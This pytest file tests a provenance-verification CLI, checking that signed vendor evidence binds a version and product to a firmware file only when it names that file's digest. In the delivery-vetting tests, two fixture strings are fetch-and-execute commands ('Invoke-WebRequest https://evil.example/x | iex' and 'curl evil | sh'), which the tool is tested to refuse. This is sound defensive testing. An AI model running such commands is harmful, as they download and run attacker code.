"""DESIGN.md rule 1, tried as an attacker holding genuine signed vendor material: a product,
version or time is used for an artifact only from evidence whose subject is that artifact's
digest and whose signer belongs to the product's own vendor. Every case goes through the CLI.
"""

from __future__ import annotations

import hashlib
import json
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from provenance.testing import PrivateSigstoreInstance
from provenance.testing.keys import derive_ec_key, public_key_pem
from tests.conftest import ISSUER, CliRunner

SIGNED_AT = datetime(2026, 6, 1, 8, 0, tzinfo=UTC)
REPOSITORY = "https://github.com/acme/plc-firmware"
WORKFLOW = f"{REPOSITORY}/.github/workflows/release.yml"
# The site trusts the release workflow of every ACME repository.
RELEASES = "https://github.com/acme/*/.github/workflows/release.yml"
HMI_REPOSITORY = "https://github.com/acme/hmi-setup"
HMI_WORKFLOW = f"{HMI_REPOSITORY}/.github/workflows/release.yml"
INTEGRATOR = "https://github.com/integrator/acceptance/.github/workflows/sign.yml"
FIRMWARE = "pkg:generic/acme/plc-firmware"
NEW, OLD = b"ACME PLC firmware 4.2.1\n" * 64, b"ACME PLC firmware 3.9.0\n" * 64
INSTALLER = b"MZ ACME HMI setup 2.0\n" * 64
SEGMENT = "controllers"
NO_VERSION = (
    "version: expected a version of plc-firmware matching >=4.0,<5, got none stated by its "
    "vendor about this file (a signature from a version tag, signed SLSA provenance or SBOM "
    "for it), nor --version"
)

POLICY = f"""\
version: 1
trust:
  sigstore: [trusted_root.json]
vendors:
  acme:
    signers:
      - sigstore: {{identity: "{RELEASES}@refs/tags/v*", issuer: "{ISSUER}"}}
      - key: keys/acme-release.pub
    products:
      plc-firmware:
        {{purl: "{FIRMWARE}", source: "{REPOSITORY}", files: ["plc-firmware-*.bin"]}}
      hmi-setup:
        purl: "pkg:generic/acme/hmi-setup"
        source: "{HMI_REPOSITORY}"
        files: ["hmi-setup-*.exe"]
  integrator:
    signers:
      - sigstore: {{identity: "{INTEGRATOR}@refs/tags/v*", issuer: "{ISSUER}"}}
delivery:
  documents: ["*.txt", "*.pdf"]
segments:
  {SEGMENT}:
    require:
      signed_by: [acme]
      evidence: {{minimum: signed-checksum-list}}
      freshness: {{not_before: "2026-01-01"}}
      version: {{plc-firmware: ">=4.0,<5", hmi-setup: ">=2.0,<3"}}
      rollback: deny
  sbom-signed:
    require:
      sbom: {{bound: signed}}
"""


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def statement(subjects: Sequence[tuple[str, bytes]], predicate_type: str, predicate: Any) -> Any:
    return {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": name, "digest": {"sha256": sha256(data)}} for name, data in subjects],
        "predicateType": predicate_type,
        "predicate": predicate,
    }


def sbom(version: str, described: bytes, name: str = "plc-firmware") -> dict[str, Any]:
    return {
        "bomFormat": "CycloneDX",
        "specVersion": "1.6",
        "version": 1,
        "metadata": {
            "component": {
                "type": "firmware",
                "name": name,
                "version": version,
                "purl": f"pkg:generic/acme/{name}@{version}",
                "hashes": [{"alg": "SHA-256", "content": sha256(described)}],
            }
        },
        "components": [],
    }


def provenance(tag: str) -> dict[str, Any]:
    return {
        "buildDefinition": {
            "buildType": "https://actions.github.io/buildtypes/workflow/v1",
            "externalParameters": {
                "workflow": {
                    "ref": f"refs/tags/{tag}",
                    "repository": "https://github.com/acme/plc-firmware",
                    "path": ".github/workflows/release.yml",
                }
            },
        },
        "runDetails": {"builder": {"id": f"{WORKFLOW}@refs/tags/{tag}"}},
    }


@dataclass
class Site:
    """A delivery folder with the site's policy and trust root, and the vendor's signers."""

    folder: Path
    instance: PrivateSigstoreInstance

    @property
    def policy(self) -> Path:
        return self.folder / "policy.yaml"

    def write(self, name: str, data: bytes | str | dict[str, Any]) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, dict):
            data = json.dumps(data)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        return path

    def keyless(self, data: bytes, tag: str, workflow: str = WORKFLOW) -> dict[str, Any]:
        identity = f"{workflow}@refs/tags/{tag}"
        return self.instance.sign_artifact(
            data, identity=identity, issuer=ISSUER, signed_at=SIGNED_AT
        )

    def attested(self, document: Any, tag: str, workflow: str = WORKFLOW) -> dict[str, Any]:
        identity = f"{workflow}@refs/tags/{tag}"
        return self.instance.sign_dsse(
            document, identity=identity, issuer=ISSUER, signed_at=SIGNED_AT
        )

    def key_signed(self, data: bytes) -> dict[str, Any]:
        return self.instance.sign_with_key(data, release_key(), signed_at=SIGNED_AT)

    def verify(
        self, cli: CliRunner, name: str, *extra: str, segment: str = SEGMENT
    ) -> tuple[int, str, dict[str, Any]]:
        result = cli(
            "verify", self.folder / name, "--policy", self.policy, "--segment", segment,
            "--format", "json", *extra,
        )  # fmt: skip
        return result.code, result.stderr, json.loads(result.stdout)


def release_key() -> Any:
    return derive_ec_key("provenance tests: binding", "acme release key")


@pytest.fixture
def site(tmp_path: Path, instance: PrivateSigstoreInstance) -> Site:
    site = Site(tmp_path / "delivery", instance)
    site.write("policy.yaml", POLICY)
    site.write("keys/acme-release.pub", public_key_pem(release_key().public_key()))
    instance.write_trusted_root(site.folder / "trusted_root.json")
    return site


def failed(report: dict[str, Any]) -> dict[str, str]:
    return {f["rule"]: f["reason"] for f in report["findings"] if not f["passed"]}


# -- the legitimate release still enters ----------------------------------------------------


def test_the_vendors_own_release_is_allowed_with_its_version_and_where_it_came_from(
    cli: CliRunner, site: Site
) -> None:
    site.write("plc-firmware-4.2.1.bin", NEW)
    site.write("plc-firmware-4.2.1.bin.sigstore.json", site.keyless(NEW, "v4.2.1"))
    code, stderr, report = site.verify(cli, "plc-firmware-4.2.1.bin")
    assert code == 0, stderr
    assert report["product"] == FIRMWARE
    assert report["product_basis"] == "its file name"
    assert report["version"] == {
        "value": "4.2.1",
        "source": "signed-identity",
        "evidence": str(site.folder / "plc-firmware-4.2.1.bin.sigstore.json"),
    }


# -- a version from a signer that never signed this file ------------------------------------


def test_a_checksum_list_signed_at_a_release_tag_gives_a_listed_file_no_version(
    cli: CliRunner, site: Site
) -> None:
    # The vendor's v4.2.1 release workflow signed a SHA256SUMS that also lists the old image.
    listing = f"{sha256(NEW)}  plc-firmware-4.2.1.bin\n{sha256(OLD)}  plc-firmware-3.9.0.bin\n"
    site.write("plc-firmware-3.9.0.bin", OLD)
    site.write("SHA256SUMS", listing)
    site.write("SHA256SUMS.sigstore.json", site.keyless(listing.encode(), "v4.2.1"))
    code, _, report = site.verify(cli, "plc-firmware-3.9.0.bin")
    assert code == 1
    assert report["evidence_strength"] == "signed-checksum-list"
    assert report["product"] == FIRMWARE
    assert report["version"] is None
    reasons = failed(report)
    assert f"version: {reasons['version']}" == NO_VERSION
    # The list's signing time is not this file's either.
    assert reasons["freshness"] == (
        "expected a verified signing time of a signature by acme over this file, got none"
    )
    assert set(reasons) == {"version", "rollback", "freshness"}


def test_another_vendors_tag_is_not_this_products_version(cli: CliRunner, site: Site) -> None:
    # Old firmware signed with the vendor's release key (no tag), co-signed by an integrator
    # from its own repository at its own tag v4.2.1.
    site.write("plc-firmware-3.9.0.bin", OLD)
    site.write("plc-firmware-3.9.0.bin.sigstore.json", site.key_signed(OLD))
    site.write(
        "plc-firmware-3.9.0.bin.integrator.sigstore.json",
        site.keyless(OLD, "v4.2.1", workflow=INTEGRATOR),
    )
    code, stderr, report = site.verify(cli, "plc-firmware-3.9.0.bin")
    assert code == 1
    signers = {s["vendor"] for f in report["findings"] for s in f["evidence"].get("signatures", ())}
    assert signers == {"acme", "integrator"}  # both signatures verified
    assert report["version"] is None
    assert f"version: {failed(report)['version']}" == NO_VERSION
    assert NO_VERSION in stderr
    # With the operator's word, the version is recorded as theirs.
    code, _, report = site.verify(cli, "plc-firmware-3.9.0.bin", "--artifact-version", "3.9.0")
    assert report["version"] == {"value": "3.9.0", "source": "operator", "evidence": None}
    assert failed(report)["version"] == (
        "expected a version matching >=4.0,<5, got 3.9.0 (operator)"
    )


def test_a_statement_about_several_files_gives_none_of_them_a_version(
    cli: CliRunner, site: Site
) -> None:
    # Genuine SLSA provenance from the v4.2.1 release, whose subjects include the old image.
    both = statement(
        [("plc-firmware-4.2.1.bin", NEW), ("plc-firmware-3.9.0.bin", OLD)],
        "https://slsa.dev/provenance/v1",
        provenance("v4.2.1"),
    )
    site.write("plc-firmware-3.9.0.bin", OLD)
    site.write("plc-firmware-3.9.0.bin.sigstore.json", site.key_signed(OLD))
    site.write("plc-firmware-3.9.0.bin.provenance.sigstore.json", site.attested(both, "v4.2.1"))
    code, _, report = site.verify(cli, "plc-firmware-3.9.0.bin")
    assert code == 1
    assert report["evidence_strength"] == "attested-build"  # it verified: it is about this file
    assert report["version"] is None
    assert f"version: {failed(report)['version']}" == NO_VERSION


def test_a_signed_sbom_of_another_digest_gives_no_version(cli: CliRunner, site: Site) -> None:
    # The vendor's signed SBOM file of 4.2.1, shipped beside the old image.
    document = json.dumps(sbom("4.2.1", NEW))
    site.write("plc-firmware-3.9.0.bin", OLD)
    site.write("plc-firmware-3.9.0.bin.sigstore.json", site.key_signed(OLD))
    site.write("plc-firmware-3.9.0.bin.cdx.json", document)
    site.write(
        "plc-firmware-3.9.0.bin.cdx.json.sigstore.json", site.keyless(document.encode(), "v4.2.1")
    )
    code, _, report = site.verify(cli, "plc-firmware-3.9.0.bin")
    assert code == 1
    assert report["version"] is None
    assert f"version: {failed(report)['version']}" == NO_VERSION


def test_an_sbom_attestation_about_several_files_describes_only_the_one_it_names(
    cli: CliRunner, site: Site
) -> None:
    both = statement(
        [("plc-firmware-4.2.1.bin", NEW), ("plc-firmware-3.9.0.bin", OLD)],
        "https://cyclonedx.org/bom",
        sbom("4.2.1", NEW),
    )
    bundle = site.attested(both, "v4.2.1")
    site.write("plc-firmware-3.9.0.bin", OLD)
    site.write("plc-firmware-3.9.0.bin.sigstore.json", site.key_signed(OLD))
    site.write("plc-firmware-3.9.0.bin.sbom.sigstore.json", bundle)
    code, _, report = site.verify(cli, "plc-firmware-3.9.0.bin")
    assert code == 1
    assert f"version: {failed(report)['version']}" == NO_VERSION
    # The same statement beside the file it describes gives that file its version.
    site.write("plc-firmware-4.2.1.bin", NEW)
    site.write("plc-firmware-4.2.1.bin.sigstore.json", site.key_signed(NEW))
    site.write("plc-firmware-4.2.1.bin.sbom.sigstore.json", bundle)
    code, stderr, report = site.verify(cli, "plc-firmware-4.2.1.bin")
    assert code == 0, stderr
    assert report["version"]["source"] == "signed-sbom"


def test_bound_sources_that_disagree_deny(cli: CliRunner, site: Site) -> None:
    site.write("plc-firmware-4.2.1.bin", NEW)
    site.write("plc-firmware-4.2.1.bin.sigstore.json", site.keyless(NEW, "v4.2.1"))
    about = statement(
        [("plc-firmware-4.2.1.bin", NEW)], "https://cyclonedx.org/bom", sbom("4.3.0", NEW)
    )
    site.write("plc-firmware-4.2.1.bin.sbom.sigstore.json", site.attested(about, "v4.2.1"))
    code, _, report = site.verify(cli, "plc-firmware-4.2.1.bin")
    assert code == 1
    folder = site.folder
    assert failed(report)["version"] == (
        "the vendor's evidence states different versions: "
        f"4.2.1 (signed-identity, {folder}/plc-firmware-4.2.1.bin.sigstore.json), "
        f"4.2.1 (signed-identity, {folder}/plc-firmware-4.2.1.bin.sbom.sigstore.json), "
        f"4.3.0 (signed-sbom, {folder}/plc-firmware-4.2.1.bin.sbom.sigstore.json)"
    )
    # The operator cannot outvote the vendor's evidence either.
    site.write("plc-firmware-4.2.1.bin.sbom.sigstore.json", "")
    (site.folder / "plc-firmware-4.2.1.bin.sbom.sigstore.json").unlink()
    code, _, report = site.verify(cli, "plc-firmware-4.2.1.bin", "--artifact-version", "4.2.2")
    assert failed(report)["version"] == (
        "expected --artifact-version 4.2.2 to match the version the vendor's evidence states, "
        "4.2.1 (signed-identity)"
    )


def test_an_sbom_is_bound_only_by_the_products_own_vendor(cli: CliRunner, site: Site) -> None:
    # The integrator signed an SBOM attestation about the vendor's firmware.
    about = statement(
        [("plc-firmware-4.2.1.bin", NEW)], "https://cyclonedx.org/bom", sbom("4.2.1", NEW)
    )
    site.write("plc-firmware-4.2.1.bin", NEW)
    site.write("plc-firmware-4.2.1.bin.sigstore.json", site.keyless(NEW, "v4.2.1"))
    site.write(
        "plc-firmware-4.2.1.bin.sbom.sigstore.json", site.attested(about, "v1.0", INTEGRATOR)
    )
    code, _, report = site.verify(cli, "plc-firmware-4.2.1.bin", segment="sbom-signed")
    assert code == 1
    assert failed(report)["sbom"] == (
        "expected a signed SBOM attestation or signed SBOM file about the artifact, got binding "
        "named (signed by integrator, not by the product's vendor acme)"
    )
    # Signed by the vendor itself, the same SBOM is bound.
    site.write("plc-firmware-4.2.1.bin.sbom.sigstore.json", site.attested(about, "v4.2.1"))
    code, stderr, _ = site.verify(cli, "plc-firmware-4.2.1.bin", segment="sbom-signed")
    assert code == 0, stderr


# -- which product a file is ----------------------------------------------------------------


def test_a_renamed_file_is_not_identified(cli: CliRunner, site: Site) -> None:
    # The HMI installer, whose signed SBOM attestation names it, renamed as firmware.
    about = statement(
        [("hmi-setup-2.0.exe", INSTALLER)],
        "https://cyclonedx.org/bom",
        sbom("2.0", INSTALLER, "hmi-setup"),
    )
    site.write("plc-firmware-4.9.0.bin", INSTALLER)
    site.write("plc-firmware-4.9.0.bin.sbom.sigstore.json", site.attested(about, "v2.0"))
    code, _, report = site.verify(cli, "plc-firmware-4.9.0.bin")
    assert code == 1
    assert report["product"] is None
    assert failed(report)["version"] == (
        "product not identified: the evidence names several (the name 'hmi-setup-2.0.exe' acme "
        "signed for it: hmi-setup; the purl of the SBOM acme signed for it: hmi-setup; its file "
        "name: plc-firmware)"
    )
    # Under its own name it is the HMI installer, judged by the installer's range (with the
    # vendor's signature over the installer itself: an SBOM does not say when it was released).
    site.write("hmi-setup-2.0.exe", INSTALLER)
    site.write("hmi-setup-2.0.exe.sigstore.json", site.key_signed(INSTALLER))
    site.write("hmi-setup-2.0.exe.sbom.sigstore.json", site.attested(about, "v2.0"))
    code, stderr, report = site.verify(cli, "hmi-setup-2.0.exe")
    assert code == 0, stderr
    assert report["product"] == "pkg:generic/acme/hmi-setup"
    assert report["version"]["value"] == "2.0"


def test_a_file_no_product_recognises_is_not_identified(cli: CliRunner, site: Site) -> None:
    site.write("tool.bin", NEW)
    site.write("tool.bin.sigstore.json", site.keyless(NEW, "v4.2.1"))
    code, _, report = site.verify(cli, "tool.bin")
    assert code == 1
    assert failed(report)["version"] == (
        "product not identified: no signed name, file name or single declared product names "
        "one of the signing vendors' products (hmi-setup, plc-firmware)"
    )
    code, stderr, report = site.verify(cli, "tool.bin", "--product", "plc-firmware")
    assert code == 0, stderr
    assert report["product_basis"] == "operator (--product)"
    code, _, report = site.verify(cli, "tool.bin", "--product", "pkg:generic/other/x")
    assert failed(report)["version"] == (
        "expected --product to be a product of a vendor that signed this file (hmi-setup, "
        "plc-firmware), got pkg:generic/other/x"
    )


def test_rollback_compares_versions_of_the_same_product_only(
    cli: CliRunner, site: Site, tmp_path: Path
) -> None:
    state = tmp_path / "state"
    state.mkdir()
    assert cli("keys", "generate", state / "site.key").code == 0
    site.write("plc-firmware-4.2.1.bin", NEW)
    site.write("plc-firmware-4.2.1.bin.sigstore.json", site.keyless(NEW, "v4.2.1"))
    site.write("hmi-setup-2.0.exe", INSTALLER)
    site.write(
        "hmi-setup-2.0.exe.sigstore.json", site.keyless(INSTALLER, "v2.0", workflow=HMI_WORKFLOW)
    )
    site.write("plc-firmware-3.9.0.bin", OLD)
    site.write("plc-firmware-3.9.0.bin.sigstore.json", site.keyless(OLD, "v3.9.0"))

    def admit(name: str) -> tuple[int, str]:
        result = cli(
            "admit", site.folder / name, "--policy", site.policy, "--segment", SEGMENT,
            "--state-dir", state,
        )  # fmt: skip
        return result.code, result.stderr

    assert admit("plc-firmware-4.2.1.bin")[0] == 0
    code, stderr = admit("hmi-setup-2.0.exe")  # 2.0 < 4.2.1, but another product
    assert code == 0, stderr
    lowered = POLICY.replace('plc-firmware: ">=4.0,<5"', 'plc-firmware: ">=3"')
    site.write("policy.yaml", lowered)
    code, stderr = admit("plc-firmware-3.9.0.bin")
    assert code == 1
    assert (
        "rollback: expected version 4.2.1 or newer (newest pkg:generic/acme/plc-firmware "
        f"admitted to {SEGMENT}), got 3.9.0"
    ) in stderr


# -- every file of a delivery is decided ------------------------------------------------------


def zipped(site: Site, members: dict[str, bytes | str]) -> Path:
    archive = site.folder.parent / "vendor-delivery.zip"
    with zipfile.ZipFile(archive, "w") as out:
        for name, data in members.items():
            out.writestr(f"release/{name}", data)
    return archive


def release(site: Site) -> dict[str, bytes | str]:
    """The signed 4.2.1 firmware, as the vendor ships it."""
    return {
        "plc-firmware-4.2.1.bin": NEW,
        "plc-firmware-4.2.1.bin.sigstore.json": json.dumps(site.keyless(NEW, "v4.2.1")),
    }


def vet(cli: CliRunner, site: Site, delivery: Path) -> tuple[int, list[str], dict[str, Any]]:
    result = cli("vet", delivery, "--policy", site.policy, "--segment", SEGMENT, "--format", "json")
    return result.code, result.stderr.splitlines(), json.loads(result.stdout)


def test_the_release_alone_is_allowed(cli: CliRunner, site: Site) -> None:
    code, stderr, report = vet(cli, site, zipped(site, release(site)))
    assert code == 0, stderr
    assert report["refused_files"] == []


def test_files_nobody_decided_about_deny_the_delivery(cli: CliRunner, site: Site) -> None:
    archive = zipped(
        site,
        {
            **release(site),
            "dropper.exe.sig": b"MZ\x90\x00 a Windows program under a signature's name",
            "tools/update.ps1.asc": "Invoke-WebRequest https://evil.example/x | iex\n",
            "bom.json": "this is not an SBOM\n",
        },
    )
    code, stderr, report = vet(cli, site, archive)
    assert code == 1
    assert [a["decision"] for a in report["artifacts"]] == ["allow"]
    assert report["decision"] == "deny"
    refused = {item["path"]: item["reason"] for item in report["refused_files"]}
    assert refused == {
        "release/bom.json": "sbom that verified nothing: release/bom.json: expected a CycloneDX "
        "(JSON or XML) or SPDX JSON document, got neither",
        "release/dropper.exe.sig": "named as detached-signature, but its content is a Windows "
        "executable (MZ)",
        "release/tools/update.ps1.asc": "detached-signature (by its name) for no file in the "
        "delivery: expected it beside the file it is named after",
    }
    assert stderr[-1] == f"FAIL: {archive}: denied for {SEGMENT}: 3 file(s) refused"
    assert f"FAIL: {archive}: release/dropper.exe.sig: refused: named as detached-signature, " in (
        "\n".join(stderr)
    )


def test_declared_documents_are_listed_not_vetted(cli: CliRunner, site: Site) -> None:
    archive = zipped(
        site,
        {**release(site), "README.txt": "Install with care.\n", "notes.pdf": b"%PDF-1.7\n..."},
    )
    code, stderr, report = vet(cli, site, archive)
    assert code == 0, stderr
    assert report["documents"] == [{"path": "release/README.txt"}, {"path": "release/notes.pdf"}]
    assert [a["artifact"]["name"] for a in report["artifacts"]] == [
        "release/plc-firmware-4.2.1.bin"
    ]
    text = cli("vet", archive, "--policy", site.policy, "--segment", SEGMENT).stdout
    assert "documents, not vetted and not for deployment (2):" in text
    # Without the policy's delivery.documents, a README is an artifact with no evidence.
    site.write(
        "policy.yaml", POLICY.replace('  documents: ["*.txt", "*.pdf"]', '  documents: ["*.md"]')
    )
    code, stderr, report = vet(cli, site, archive)
    assert code == 1
    denied = {
        a["artifact"]["name"]: a["reason"] for a in report["artifacts"] if a["decision"] == "deny"
    }
    assert set(denied) == {"release/README.txt", "release/notes.pdf"}
    assert denied["release/README.txt"].startswith("no_evidence: no evidence found (looked for: ")


def test_a_script_under_a_document_name_is_refused(cli: CliRunner, site: Site) -> None:
    archive = zipped(site, {**release(site), "notes.txt": "#!/bin/sh\ncurl evil | sh\n"})
    code, _, report = vet(cli, site, archive)
    assert code == 1
    assert report["documents"] == []
    assert report["refused_files"] == [
        {
            "path": "release/notes.txt",
            "reason": "named as document, but its content is a script (#!)",
        }
    ]


# -- the fixture deliveries ---------------------------------------------------------------------

FIXTURES = Path(__file__).parents[1] / "fixtures"


@pytest.mark.parametrize(
    ("delivery", "segment", "products"),
    [
        (
            "acme-delivery",
            "level3-operations",
            {
                "hmi-setup-2.0.exe": ("pkg:generic/acme-automation/hmi-setup", "2.0"),
                "plc-firmware-3.9.0.bin": ("pkg:generic/acme-automation/plc-firmware", "3.9.0"),
                "plc-firmware-4.2.1.bin": ("pkg:generic/acme-automation/plc-firmware", "4.2.1"),
            },
        ),
        (
            "northwind-delivery",
            "level3-operations",
            {
                "hmi-config-tool-3.2.exe": ("pkg:generic/northwind-controls/hmi-config-tool", None),
                "io-module-firmware-2.4.0.bin": (
                    "pkg:generic/northwind-controls/io-module-firmware",
                    None,
                ),
                "rtu-firmware-7.1.0.bin": ("pkg:generic/northwind-controls/rtu-firmware", None),
            },
        ),
    ],
)
def test_every_file_of_the_fixture_deliveries_is_its_own_product(
    cli: CliRunner, delivery: str, segment: str, products: dict[str, tuple[str, str | None]]
) -> None:
    folder = FIXTURES / delivery
    result = cli(
        "vet", folder, "--policy", folder / "policy.yaml", "--segment", segment, "--format", "json"
    )
    report = json.loads(result.stdout)
    found = {
        a["artifact"]["name"]: (a["product"], a["version"]["value"] if a["version"] else None)
        for a in report["artifacts"]
    }
    assert found == products
    assert report["refused_files"] == []
    # The HMI installer is judged by its own version range, not the firmware's; its version is
    # its signed SBOM's (the fixture signs its attestations from the firmware's repository,
    # whose tags are not the installer's releases).
    if delivery == "acme-delivery":
        hmi = next(a for a in report["artifacts"] if a["artifact"]["name"] == "hmi-setup-2.0.exe")
        version = next(f for f in hmi["findings"] if f["rule"] == "version")
        assert version["reason"] == "2.0 matches >=2.0,<3 (signed-sbom)"
